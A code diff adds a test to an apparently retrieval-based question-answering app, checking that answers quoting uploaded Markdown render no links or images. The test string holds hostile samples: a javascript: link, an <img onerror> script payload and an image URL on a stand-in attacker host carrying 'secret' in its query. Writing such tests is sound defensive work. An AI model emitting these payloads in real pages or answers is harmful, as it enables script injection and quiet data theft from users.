@@ -56,6 +56,18 @@ def test_answers_show_citation_markers_and_escape_html():
     assert '$' not in html  # would be read as math by Streamlit's Markdown
 
 
+def test_an_answer_never_renders_links_or_images_the_documents_planted():
+    """Issue 25: an answer quoting an upload's Markdown showed a link (to anywhere) and loaded an image."""
+    from markdown_it import MarkdownIt
+    answer = ('Send it [here](javascript:alert(1)) or [there][ref] ![pixel](https://evil.example/t.png?q=secret) '
+              '<img src=x onerror=alert(1)> [1][2] and [3, 1].\n\n[ref]: https://evil.example')
+    html = render.answer_markdown(answer)
+    rendered = MarkdownIt('commonmark').render(html)
+    assert '<a ' not in rendered and '<img' not in rendered, rendered
+    assert 'javascript:alert(1)' in rendered and '[here]' in rendered  # shown as the text it is
+    assert rendered.count('class="rag-cite"') == 4
+
+
 def test_sources_show_file_page_score_snippet_cited_first():
     message = {'answer': 'A [2].', 'cited': [2], 'docs': [
         {'content': 'first fragment', 'metadata': {'source': 'a.pdf', 'page': 1, 'score': 0.5}},
